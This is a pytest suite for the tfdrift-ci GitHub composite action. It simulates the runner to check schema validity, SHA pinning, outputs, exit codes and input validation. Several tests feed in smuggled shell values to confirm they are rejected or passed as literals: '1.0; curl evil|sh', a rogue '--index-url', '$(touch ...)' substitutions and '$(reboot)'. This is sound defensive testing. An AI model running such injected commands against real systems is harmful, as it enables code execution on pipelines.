"""action.yml: schema-valid, inputs only through env, and every step run the way the runner runs it.

A small stand-in for the runner (``ActionRun``) executes the composite action's steps in order: each
``run:`` script in ``bash --noprofile --norc -eo pipefail`` with a fresh ``GITHUB_OUTPUT`` file and the
runner's ``GITHUB_ENV`` / ``GITHUB_PATH`` / ``GITHUB_STEP_SUMMARY`` files, its ``env:`` evaluated from
the inputs (defaults from action.yml), earlier steps' outputs, ``github.*`` and ``runner.*``; ``uses:``
steps are replaced by what they would output (setup-python: a Python that makes a recording venv;
actions/cache: nothing). The tfdrift-ci run itself is real, with the tfdrift-ci installed in this
environment: exit 0, 1 and 2, and every output checked for each.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

REPO = Path(__file__).resolve().parent.parent
ACTION = REPO / "action.yml"
FIXTURES = REPO / "tests" / "fixtures"
BASH = ["bash", "--noprofile", "--norc", "-eo", "pipefail"]  # how the runner starts `shell: bash`
SHA_PIN = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$")
EXPRESSION = re.compile(r"^\$\{\{ ([a-z][a-z0-9_.-]*) \}\}$")


def action() -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load(ACTION.read_text(encoding="utf-8"))
    return data


def steps() -> list[dict[str, Any]]:
    result: list[dict[str, Any]] = action()["runs"]["steps"]
    return result


def step(step_id_or_name: str) -> dict[str, Any]:
    return next(s for s in steps() if step_id_or_name in (s.get("id"), s.get("name")))


def read_outputs(path: Path) -> dict[str, str]:
    """``GITHUB_OUTPUT`` lines ``name=value`` (the action writes no multi-line values)."""
    text = path.read_text(encoding="utf-8")
    assert "<<" not in text, "multi-line output syntax: extend read_outputs"
    pairs = [line.split("=", 1) for line in text.splitlines() if line]
    outputs = dict(pairs)
    assert len(outputs) == len(pairs), f"an output was written twice: {text}"
    return outputs


# --------------------------------------------------------------------------------------------------
# Static checks


def test_validates_against_the_github_actions_schema() -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-actions", str(ACTION)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_no_expression_is_interpolated_into_a_script() -> None:
    scripts = [s["run"] for s in steps() if "run" in s]
    assert len(scripts) == 4
    for script in scripts:
        assert "${{" not in script, "expressions belong in env:, never in run:"


def test_env_values_are_single_expressions() -> None:
    """Every env value is one plain expression (or a literal): no string building, no functions, so
    nothing in an input can change what the expression means; ActionRun below evaluates exactly this."""
    for s in steps():
        for name, value in (s.get("env") or {}).items():
            assert EXPRESSION.match(str(value)) or "${{" not in str(value), (s.get("name"), name, value)


def test_every_action_is_pinned_by_commit_sha() -> None:
    for s in steps():
        if "uses" in s:
            assert SHA_PIN.match(s["uses"]), s["uses"]
    text = ACTION.read_text(encoding="utf-8")
    for line in text.splitlines():
        if re.match(r"\s*(- )?uses:", line):
            assert re.search(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line), f"pin with a # vX.Y.Z comment: {line}"


def test_inputs_and_outputs() -> None:
    a = action()
    assert a["runs"]["using"] == "composite"
    for name in (
        "path", "plan", "events", "since", "regions", "terraform-principals", "fail-on", "comment",
        "github-token", "sarif-file", "config", "version", "python-version", "cache", "mode",
        "issue-label", "max-new-issues", "notify", "html-file", "fail-on-incomplete",
        "terraform-principals-mode",
    ):  # fmt: skip
        assert name in a["inputs"], name
    assert a["inputs"]["github-token"]["default"] == "${{ github.token }}"
    assert set(a["outputs"]) == {
        "findings", "highest-severity", "exit-code", "report-json", "sarif-file", "html-file",
    }  # fmt: skip
    for name, spec in a["outputs"].items():
        assert spec["value"] == f"${{{{ steps.check.outputs.{name} }}}}"
    env = step("check")["env"]
    assert env["GITHUB_TOKEN"] == "${{ inputs.github-token }}"


def test_documented_inputs_match_the_action() -> None:
    """docs/github-action.md's input and output tables list exactly what action.yml declares."""
    doc = (REPO / "docs" / "github-action.md").read_text(encoding="utf-8")
    documented = set(re.findall(r"^\| `([a-z-]+)` \|", doc, re.M))
    a = action()
    assert documented == set(a["inputs"]) | set(a["outputs"])


# --------------------------------------------------------------------------------------------------
# A stand-in for the runner


@dataclass
class StepResult:
    name: str
    returncode: int
    stdout: str
    stderr: str
    outputs: dict[str, str]
    skipped: bool = False


@dataclass
class ActionRun:
    """Runs action.yml's steps like the runner, in ``tmp`` (the workspace)."""

    tmp: Path
    inputs: dict[str, str] = field(default_factory=dict)
    env: dict[str, str] = field(default_factory=dict)  # job-level environment (GITHUB_EVENT_NAME …)
    cli: str | None = None  # what the venv's tfdrift-ci runs (default: the one installed here)
    results: dict[str, StepResult] = field(default_factory=dict)
    uploaded: list[dict[str, str]] = field(default_factory=list)  # actions/upload-artifact's `with:`

    def __post_init__(self) -> None:
        self.workspace = self.tmp / "workspace"
        self.runner_temp = self.tmp / "runner_temp"
        self.files = self.tmp / "runner_files"
        for d in (self.workspace, self.runner_temp, self.files):
            d.mkdir(exist_ok=True)
        for name in ("summary.md", "env", "path"):
            (self.files / name).write_text("", encoding="utf-8")
        self.pip_log = self.tmp / "pip.log"
        self.python = self._fake_python()

    # Inputs: defaults from action.yml, overridden like `with:` does.
    def input(self, name: str) -> str:
        spec = action()["inputs"][name]
        if name in self.inputs:
            return self.inputs[name]
        default = str(spec.get("default", ""))
        return "ghs_FAKE_TOKEN" if default == "${{ github.token }}" else default

    def evaluate(self, value: Any) -> str:
        text = str(value).lower() if isinstance(value, bool) else str(value)
        m = EXPRESSION.match(text)
        if not m:
            assert "${{" not in text, f"ActionRun only evaluates single expressions: {text}"
            return text
        parts = m.group(1).split(".")
        if parts[0] == "inputs":
            return self.input(parts[1])
        if parts[0] == "steps" and parts[2] == "outputs":
            done = self.results.get(parts[1])
            return done.outputs.get(parts[3], "") if done else ""
        if parts == ["github", "token"]:
            return "ghs_FAKE_TOKEN"
        if parts == ["runner", "temp"]:
            return str(self.runner_temp)
        raise AssertionError(f"ActionRun cannot evaluate {text}")

    def condition(self, expr: str | None) -> bool:
        if expr is None:
            return True
        m = re.fullmatch(r"inputs\.([a-z-]+) == '([^']*)'", expr.strip())
        if m:
            return self.input(m.group(1)).lower() == m.group(2).lower()  # == on strings ignores case
        m = re.fullmatch(r"(steps\.[a-z-]+\.outputs\.[a-z-]+) != ''", expr.strip())
        assert m, f"ActionRun cannot evaluate the condition {expr!r}"
        return self.evaluate("${{ " + m.group(1) + " }}") != ""

    def base_env(self) -> dict[str, str]:
        return {
            "PATH": os.environ["PATH"],
            "HOME": str(self.tmp),
            "RUNNER_TEMP": str(self.runner_temp),
            "RUNNER_OS": "Linux",
            "RUNNER_ARCH": "X64",
            "GITHUB_ACTION_PATH": str(REPO),
            "GITHUB_WORKSPACE": str(self.workspace),
            "GITHUB_STEP_SUMMARY": str(self.files / "summary.md"),
            "GITHUB_ENV": str(self.files / "env"),
            "GITHUB_PATH": str(self.files / "path"),
            "GITHUB_EVENT_NAME": "push",
            # No AWS credentials: static rules only, never a call to AWS.
            "AWS_EC2_METADATA_DISABLED": "true",
            "AWS_CONFIG_FILE": str(self.tmp / "no-aws-config"),
            "AWS_SHARED_CREDENTIALS_FILE": str(self.tmp / "no-aws-credentials"),
            **self.env,
        }

    def run(self) -> ActionRun:
        for s in steps():
            key = s.get("id") or s["name"]
            if not self.condition(s.get("if")):
                self.results[key] = StepResult(s["name"], 0, "", "", {}, skipped=True)
                continue
            if "uses" in s:
                self.results[key] = self._uses(s)
            else:
                self.results[key] = self.run_script(s)
                if self.results[key].returncode != 0:
                    break  # the runner stops at the first failing step
        return self

    def run_script(self, s: dict[str, Any]) -> StepResult:
        assert s.get("shell") == "bash"
        key = s.get("id") or s["name"]
        script = self.tmp / f"step-{re.sub(r'[^a-z0-9]+', '-', key.lower())}.sh"
        script.write_text(s["run"], encoding="utf-8")
        output = self.tmp / f"output-{script.stem}"
        output.write_text("", encoding="utf-8")
        env = {**self.base_env(), "GITHUB_OUTPUT": str(output)}
        env.update({k: self.evaluate(v) for k, v in (s.get("env") or {}).items()})
        proc = subprocess.run(
            [*BASH, str(script)], env=env, cwd=self.workspace, capture_output=True, text=True, check=False,
            timeout=180,
        )  # fmt: skip
        return StepResult(s["name"], proc.returncode, proc.stdout, proc.stderr, read_outputs(output))

    def _uses(self, s: dict[str, Any]) -> StepResult:
        name = s["uses"].split("@")[0]
        with_ = {k: self.evaluate(v) for k, v in (s.get("with") or {}).items()}
        if name == "actions/setup-python":
            assert with_["update-environment"] == "false"  # the job's own Python is left alone
            outputs = {"python-path": str(self.python), "python-version": with_["python-version"] + ".7"}
            return StepResult(s["name"], 0, "", "", outputs)
        if name == "actions/cache":
            assert with_["path"] and with_["key"], with_
            return StepResult(s["name"], 0, "", "", {"cache-hit": "false"})
        if name == "actions/upload-artifact":
            assert with_["name"] and with_["path"], with_
            self.uploaded.append(with_)
            return StepResult(s["name"], 0, "", "", {})
        raise AssertionError(f"ActionRun does not know {name}")

    def _fake_python(self) -> Path:
        """setup-python's Python: real, except that ``-m venv DIR`` makes a venv whose python records
        ``-m pip …`` calls (NUL-separated, one call per line) instead of reaching an index, and whose
        tfdrift-ci is ``self.cli`` or the one installed in this environment."""
        cli = self.cli or shutil.which("tfdrift-ci", path=str(Path(sys.executable).parent))
        assert cli, "tfdrift-ci is not installed in this environment"
        venv_python = (
            "#!/bin/bash\n"
            'if [ "$1" = -m ] && [ "$2" = pip ]; then\n'
            f'  printf "%s\\0" "${{@:3}}" >> "{self.pip_log}"; printf "\\n" >> "{self.pip_log}"; exit 0\n'
            "fi\n"
            f'exec "{sys.executable}" "$@"\n'
        )
        fake = self.tmp / "setup-python" / "python"
        fake.parent.mkdir()
        fake.write_text(
            "#!/bin/bash\n"
            'if [ "$1" = -m ] && [ "$2" = venv ]; then\n'
            '  mkdir -p "$3/bin"\n'
            f"  cat > \"$3/bin/python\" <<'EOF'\n{venv_python}EOF\n"
            '  chmod +x "$3/bin/python"\n'
            f'  ln -s "{cli}" "$3/bin/tfdrift-ci"\n'
            "  exit 0\n"
            "fi\n"
            f'exec "{sys.executable}" "$@"\n',
            encoding="utf-8",
        )
        fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
        return fake

    def pip_calls(self) -> list[list[str]]:
        if not self.pip_log.exists():
            return []
        return [line.split("\0")[:-1] for line in self.pip_log.read_text(encoding="utf-8").splitlines()]

    @property
    def outputs(self) -> dict[str, str]:
        """The action's outputs, evaluated from its `outputs:` section (an unset output is '')."""
        return {name: self.evaluate(spec["value"]) for name, spec in action()["outputs"].items()}


def _project(run: ActionRun, fixture: str) -> None:
    target = run.workspace / "infra"
    shutil.copytree(FIXTURES / fixture, target)


# --------------------------------------------------------------------------------------------------
# The whole action, for real: exit 0, 1 and 2


def test_exit_0_below_the_threshold(tmp_path: Path) -> None:
    run = ActionRun(tmp_path, inputs={"path": "infra"})
    _project(run, "action/below-threshold")
    run.run()
    fail = run.results["Fail on findings or errors"]
    assert fail.returncode == 0 and "tfdrift-ci: passed" in fail.stdout
    out = run.outputs
    assert out["exit-code"] == "0"
    report = json.loads(Path(out["report-json"]).read_text(encoding="utf-8"))
    assert Path(out["report-json"]) == run.runner_temp / "tfdrift-ci" / "report.json"
    assert report["exit_code"] == 0
    assert out["findings"] == str(report["summary"]["total"])
    assert out["highest-severity"] in ("low", "info", "none")
    assert out["sarif-file"] == "tfdrift-ci.sarif"  # relative to the workspace, like the input
    assert json.loads((run.workspace / "tfdrift-ci.sarif").read_text(encoding="utf-8"))["version"] == "2.1.0"
    assert (run.files / "summary.md").read_text(encoding="utf-8").startswith("### ")
    # push event: no PR comment attempted
    assert "push event is not a pull request" in run.results["check"].stdout


def test_exit_1_findings_at_or_above_fail_on(tmp_path: Path) -> None:
    run = ActionRun(tmp_path, inputs={"path": "infra", "fail-on": "medium", "sarif-file": "out/x.sarif"})
    _project(run, "report/action-project")
    (run.workspace / "out").mkdir()
    run.run()
    fail = run.results["Fail on findings or errors"]
    assert fail.returncode == 1
    assert fail.stdout.startswith("::error title=tfdrift-ci::findings at or above")
    out = run.outputs
    report = json.loads(Path(out["report-json"]).read_text(encoding="utf-8"))
    assert out["exit-code"] == "1" == str(report["exit_code"])
    assert out["findings"] == str(report["summary"]["total"]) and int(out["findings"]) >= 1
    worst = next(s for s in ("critical", "high", "medium", "low", "info") if report["summary"][s])
    assert out["highest-severity"] == worst and worst in ("critical", "high", "medium")
    assert out["sarif-file"] == "out/x.sarif" and (run.workspace / "out" / "x.sarif").is_file()
    check = run.results["check"]
    assert any(line.startswith(("::error file=infra/main.tf", "::warning file=infra/main.tf"))
               for line in check.stdout.splitlines()), check.stdout  # fmt: skip
    assert (run.files / "summary.md").read_text(encoding="utf-8").startswith("### ❌ tfdrift-ci")


def test_html_report_is_written_and_uploaded_even_when_the_check_fails(tmp_path: Path) -> None:
    run = ActionRun(tmp_path, inputs={"path": "infra", "fail-on": "medium", "html-file": "out/report.html"})
    _project(run, "report/action-project")
    (run.workspace / "out").mkdir()
    run.run()
    assert run.results["Fail on findings or errors"].returncode == 1
    assert run.outputs["html-file"] == "out/report.html"
    page = (run.workspace / "out" / "report.html").read_text(encoding="utf-8")
    assert page.lstrip().lower().startswith("<!doctype html>")
    upload = {"name": "tfdrift-ci-report", "path": "out/report.html", "if-no-files-found": "ignore"}
    assert run.uploaded == [upload]


def test_no_html_report_and_no_upload_unless_asked(tmp_path: Path) -> None:
    run = ActionRun(tmp_path, inputs={"path": "infra"})
    _project(run, "action/below-threshold")
    run.run()
    assert run.outputs["html-file"] == ""
    assert run.results["Upload the HTML report"].skipped and run.uploaded == []
    assert not list(run.workspace.rglob("*.html"))


def test_no_upload_after_an_input_error(tmp_path: Path) -> None:
    run = ActionRun(tmp_path, inputs={"path": "no-such-dir", "html-file": "report.html"})
    (run.workspace / "report.html").write_text("stale", encoding="utf-8")  # an earlier run's page
    run.run()
    assert run.outputs["exit-code"] == "2" and run.outputs["html-file"] == ""
    assert run.results["Upload the HTML report"].skipped and run.uploaded == []
    assert not (run.workspace / "report.html").exists()


def test_exit_2_sets_no_output_for_files_that_were_not_written(tmp_path: Path) -> None:
    run = ActionRun(tmp_path, inputs={"path": "no-such-dir"})
    # A SARIF file left by an earlier step must not be reported as this run's.
    (run.workspace / "tfdrift-ci.sarif").write_text("{}", encoding="utf-8")
    run.run()
    check = run.results["check"]
    assert check.returncode == 0, check.stderr
    assert check.outputs == {"exit-code": "2"}
    assert run.outputs == {
        "findings": "", "highest-severity": "", "exit-code": "2", "report-json": "", "sarif-file": "",
        "html-file": "",
    }  # fmt: skip
    assert not (run.workspace / "tfdrift-ci.sarif").exists()
    assert "no such file or directory" in check.stderr
    fail = run.results["Fail on findings or errors"]
    assert fail.returncode == 2 and "input or configuration error" in fail.stdout


def test_install_uses_the_lock_with_hashes_then_the_action_path(tmp_path: Path) -> None:
    run = ActionRun(tmp_path, inputs={"path": "infra"})
    _project(run, "action/below-threshold")
    run.run()
    calls = run.pip_calls()
    assert calls[0][:4] == ["install", "--quiet", "--disable-pip-version-check", "--no-input"]
    assert calls[0][4:] == ["--require-hashes", "--no-deps", "-r", f"{REPO}/constraints.txt"]
    assert calls[1][4:] == ["--no-deps", "--no-build-isolation", str(REPO)]
    assert calls[2][0] == "check"
    assert len(calls) == 3
    install = run.results["install"].outputs
    assert install == {
        "bin": f"{run.runner_temp}/tfdrift-ci-venv/bin/tfdrift-ci",
        "python": f"{run.runner_temp}/tfdrift-ci-venv/bin/python",
    }


def test_cache_key_follows_the_lock_os_arch_and_python(tmp_path: Path) -> None:
    import hashlib

    run = ActionRun(tmp_path, inputs={"path": "infra", "python-version": "3.13"})
    _project(run, "action/below-threshold")
    run.run()
    digest = hashlib.sha256((REPO / "constraints.txt").read_bytes()).hexdigest()[:32]
    key = run.results["cache-key"].outputs
    assert key == {
        "key": f"tfdrift-ci-pip-Linux-X64-py3.13.7-constraints-{digest}",
        "dir": f"{run.runner_temp}/tfdrift-ci-pip-cache",
    }
    assert not run.results["Cache tfdrift-ci's downloads"].skipped
    cache_step = step("Cache tfdrift-ci's downloads")
    assert cache_step["with"] == {
        "path": "${{ steps.cache-key.outputs.dir }}", "key": "${{ steps.cache-key.outputs.key }}",
    }  # fmt: skip
    assert step("install")["env"]["PIP_CACHE_DIR"] == "${{ steps.cache-key.outputs.dir }}"


def test_cache_can_be_turned_off(tmp_path: Path) -> None:
    run = ActionRun(tmp_path, inputs={"path": "infra", "cache": "false"})
    _project(run, "action/below-threshold")
    run.run()
    assert run.results["Cache tfdrift-ci's downloads"].skipped
    assert run.outputs["exit-code"] == "0"


def test_version_input_installs_a_release(tmp_path: Path) -> None:
    run = ActionRun(tmp_path, inputs={"path": "infra", "version": "0.1.0"})
    _project(run, "action/below-threshold")
    run.run()
    calls = run.pip_calls()
    assert [c[4:] for c in calls] == [["tfdrift-ci==0.1.0"]]
    assert run.results["cache-key"].outputs["key"].endswith("-pypi")


@pytest.mark.parametrize("version", ["1.0; curl evil|sh", "--index-url=http://evil/", "latest", ""])
def test_version_input_is_validated(tmp_path: Path, version: str) -> None:
    run = ActionRun(tmp_path, inputs={"path": "infra", "version": version})
    _project(run, "action/below-threshold")
    run.run()
    if version == "":
        assert run.results["install"].returncode == 0
        return
    install = run.results["install"]
    assert install.returncode == 2
    assert "input version must be a version number" in install.stdout
    assert run.pip_calls() == []
    assert "check" not in run.results  # the runner stopped at the failing step


# --------------------------------------------------------------------------------------------------
# The run step's argument handling, with a stub CLI that records its arguments


def _stub(tmp_path: Path, code: int = 1) -> Path:
    """A fake tfdrift-ci: records its arguments (NUL-separated), writes the golden JSON report to the
    --output that follows ``--format json``, an empty SARIF file for ``--format sarif``, and exits
    with ``code``."""
    stub = tmp_path / "tfdrift-ci-stub"
    golden = REPO / "tests" / "golden" / "report" / "report.json"
    stub.write_text(
        "#!/bin/bash\n"
        f'printf "%s\\0" "$@" > "{tmp_path}/args"\n'
        'prev=""; fmt=""\n'
        'for a in "$@"; do\n'
        '  if [ "$prev" = --format ]; then fmt="$a"; fi\n'
        f'  if [ "$prev" = --output ] && [ "$fmt" = json ]; then cp "{golden}" "$a"; fi\n'
        '  if [ "$prev" = --output ] && [ "$fmt" = sarif ]; then echo "{{}}" > "$a"; fi\n'
        '  prev="$a"\n'
        "done\n"
        f"exit {code}\n",
        encoding="utf-8",
    )
    stub.chmod(stub.stat().st_mode | stat.S_IEXEC)
    return stub


def _args(tmp_path: Path) -> list[str]:
    return (tmp_path / "args").read_text(encoding="utf-8").split("\0")[:-1]


def test_run_step_builds_the_command_and_the_outputs(tmp_path: Path) -> None:
    run = ActionRun(
        tmp_path,
        inputs={
            "path": "infra",
            "events": "aws,\n  s3://trail/AWSLogs  \n\nevents/",
            "regions": "us-east-1, eu-west-1",
            "terraform-principals": "arn:aws:iam::111122223333:role/terraform-*",
            "plan": "plan.json",
            "config": ".tfdrift.yml",
            "comment": "TRUE",
        },
        env={"GITHUB_EVENT_NAME": "pull_request"},
        cli=str(_stub(tmp_path)),
    )
    run.run()
    args = _args(tmp_path)
    report = str(run.runner_temp / "tfdrift-ci" / "report.json")
    assert args[:9] == [
        "check", "infra", "--no-progress", "--format", "json", "--output", report, "--format", "sarif",
    ]  # fmt: skip
    assert args[-2:] == ["--format", "github"]  # last: printed to stdout
    joined = " ".join(args)
    assert "--plan plan.json" in joined and "--since 7d" in joined and "--fail-on high" in joined
    assert "--config .tfdrift.yml" in joined
    assert "--comment" in args
    assert "--events aws --events s3://trail/AWSLogs --events events/" in joined
    assert "--region us-east-1 --region eu-west-1" in joined
    assert "--terraform-principal arn:aws:iam::111122223333:role/terraform-*" in joined
    assert run.outputs == {
        "exit-code": "1",
        "report-json": report,
        "sarif-file": "tfdrift-ci.sarif",
        "html-file": "",
        "findings": "7",
        "highest-severity": "critical",
    }


def test_empty_inputs_add_no_arguments(tmp_path: Path) -> None:
    run = ActionRun(
        tmp_path, inputs={"since": "", "fail-on": "", "comment": "false"}, cli=str(_stub(tmp_path))
    )
    run.run()
    args = _args(tmp_path)
    assert args[:3] == ["check", ".", "--no-progress"]
    for flag in ("--plan", "--since", "--fail-on", "--config", "--events", "--region", "--comment"):
        assert flag not in args, flag


def test_fail_on_incomplete_and_the_principals_mode_reach_the_command(tmp_path: Path) -> None:
    inputs = {
        "terraform-principals": "arn:aws:iam::111122223333:role/terraform",
        "terraform-principals-mode": "replace",
        "fail-on-incomplete": "true",
    }
    given, default = tmp_path / "given", tmp_path / "default"
    given.mkdir()
    default.mkdir()
    ActionRun(given, inputs=inputs, cli=str(_stub(given))).run()
    joined = " ".join(_args(given))
    assert "--terraform-principal arn:aws:iam::111122223333:role/terraform" in joined
    assert "--terraform-principals-mode replace" in joined and "--fail-on-incomplete" in joined
    # the defaults: extend, and no --fail-on-incomplete
    ActionRun(default, inputs={}, cli=str(_stub(default))).run()
    args = _args(default)
    assert "--fail-on-incomplete" not in args
    assert args[args.index("--terraform-principals-mode") + 1] == "extend"


def test_a_bad_fail_on_incomplete_is_exit_2_without_running(tmp_path: Path) -> None:
    run = ActionRun(tmp_path, inputs={"fail-on-incomplete": "maybe"}, cli=str(_stub(tmp_path))).run()
    assert not (tmp_path / "args").exists()
    assert run.outputs["exit-code"] == "2"


def test_no_comment_outside_pull_requests(tmp_path: Path) -> None:
    run = ActionRun(tmp_path, inputs={"comment": "true"}, cli=str(_stub(tmp_path))).run()
    assert "--comment" not in _args(tmp_path)
    assert "push event is not a pull request" in run.results["check"].stdout


def test_a_bad_boolean_input_is_exit_2_without_running(tmp_path: Path) -> None:
    run = ActionRun(tmp_path, inputs={"comment": "maybe"}, cli=str(_stub(tmp_path))).run()
    assert not (tmp_path / "args").exists()
    assert run.outputs["exit-code"] == "2"
    assert (
        "::error title=tfdrift-ci::the input for --comment must be true or false"
        in run.results["check"].stdout
    )
    assert run.results["Fail on findings or errors"].returncode == 2


def test_inputs_cannot_inject_shell(tmp_path: Path) -> None:
    evil = f"$(touch {tmp_path}/pwned1)`touch {tmp_path}/pwned2`; touch {tmp_path}/pwned3"
    run = ActionRun(
        tmp_path,
        inputs={"path": evil, "events": evil, "regions": evil, "config": evil, "since": evil, "plan": evil,
                "fail-on": evil, "terraform-principals": evil, "sarif-file": evil, "python-version": evil},
        cli=str(_stub(tmp_path)),
    ).run()  # fmt: skip
    assert run.results["check"].returncode == 0, run.results["check"].stderr
    assert not list(tmp_path.glob("pwned*"))
    args = _args(tmp_path)
    assert args[1] == evil  # passed through as one literal argument


def test_sweep_mode_builds_the_sweep_command(tmp_path: Path) -> None:
    evil = f"$(touch {tmp_path}/pwned1); touch {tmp_path}/pwned2"
    run = ActionRun(
        tmp_path,
        inputs={
            "mode": "sweep",
            "path": "infra",
            "comment": "true",
            "issue-label": "drift",
            "max-new-issues": "5",
            "notify": f"slack:SLACK_WEBHOOK_URL,\n  webhook:HOOK_URL:HOOK_SECRET\n{evil}",
        },
        env={"GITHUB_EVENT_NAME": "schedule"},
        cli=str(_stub(tmp_path)),
    ).run()
    assert run.results["check"].returncode == 0, run.results["check"].stderr
    args = _args(tmp_path)
    assert args[:3] == ["sweep", "infra", "--no-progress"]
    joined = " ".join(args)
    assert "--issue-label drift --max-new-issues 5" in joined
    assert "--notify slack:SLACK_WEBHOOK_URL --notify webhook:HOOK_URL:HOOK_SECRET" in joined
    assert evil in args  # one literal argument, never run
    assert "--comment" not in args  # a sweep keeps issues, never a PR comment
    assert args[-2:] == ["--format", "github"]
    assert not list(tmp_path.glob("pwned*"))
    assert run.outputs["exit-code"] == "1" and run.outputs["findings"] == "7"


def test_check_mode_ignores_the_sweep_inputs(tmp_path: Path) -> None:
    ActionRun(
        tmp_path,
        inputs={"notify": "slack:X", "issue-label": "x", "max-new-issues": "1"},
        cli=str(_stub(tmp_path)),
    ).run()
    args = _args(tmp_path)
    assert args[0] == "check"
    for flag in ("--notify", "--issue-label", "--max-new-issues"):
        assert flag not in args, flag


def test_a_bad_mode_is_exit_2_without_running(tmp_path: Path) -> None:
    run = ActionRun(tmp_path, inputs={"mode": "$(reboot)"}, cli=str(_stub(tmp_path))).run()
    assert not (tmp_path / "args").exists()
    assert run.outputs["exit-code"] == "2"
    assert "::error title=tfdrift-ci::the input mode must be check or sweep" in run.results["check"].stdout
    assert run.results["Fail on findings or errors"].returncode == 2


def test_report_written_but_crash_afterwards(tmp_path: Path) -> None:
    """Exit 3 after the reports were written: the outputs still name them (they exist)."""
    run = ActionRun(tmp_path, cli=str(_stub(tmp_path, code=3))).run()
    assert run.outputs["exit-code"] == "3"
    assert run.outputs["sarif-file"] == "tfdrift-ci.sarif" and run.outputs["report-json"]
    assert run.results["Fail on findings or errors"].returncode == 3


@pytest.mark.parametrize(("code", "expected"), [("0", 0), ("1", 1), ("2", 2), ("3", 3), ("", 3)])
def test_fail_step_fails_on_findings_and_errors(tmp_path: Path, code: str, expected: int) -> None:
    script = tmp_path / "fail.sh"
    script.write_text(step("Fail on findings or errors")["run"], encoding="utf-8")
    proc = subprocess.run(
        [*BASH, str(script)], env={"PATH": os.environ["PATH"], "TFDRIFT_EXIT": code}, capture_output=True,
        text=True, check=False,
    )  # fmt: skip
    assert proc.returncode == expected
    if expected:
        assert proc.stdout.startswith("::error title=tfdrift-ci::")


# --------------------------------------------------------------------------------------------------
# The real install (network: PyPI), in CI only


@pytest.mark.slow
@pytest.mark.skipif(
    os.environ.get("CI") != "true" and os.environ.get("TFDRIFT_NETWORK_TESTS") != "1",
    reason="downloads the locked dependencies from PyPI (about 30 s): runs in CI (CI=true) or with "
    "TFDRIFT_NETWORK_TESTS=1",
)
def test_install_step_for_real(tmp_path: Path) -> None:
    """The install step with a real Python and pip: constraints.txt installs with --require-hashes
    (every dependency locked, with hashes) and `pip check` finds nothing missing."""
    s = step("install")
    run = ActionRun(tmp_path)
    run.results["python"] = StepResult("python", 0, "", "", {"python-path": sys.executable})
    run.results["cache-key"] = StepResult("cache-key", 0, "", "", {"dir": str(tmp_path / "pip-cache")})
    # The action path is copied: pip builds in place, which must not touch this checkout.
    source = tmp_path / "action"
    source.mkdir()
    for name in ("pyproject.toml", "README.md", "constraints.txt"):
        shutil.copy(REPO / name, source / name)
    for name in ("tfdrift_ci", "templates"):
        shutil.copytree(REPO / name, source / name, ignore=shutil.ignore_patterns("__pycache__"))
    run.env["GITHUB_ACTION_PATH"] = str(source)
    result = run.run_script(s)
    assert result.returncode == 0, result.stdout + result.stderr
    version = subprocess.run([result.outputs["bin"], "--version"], capture_output=True, text=True, check=True)
    assert version.stdout.startswith("tfdrift-ci ")
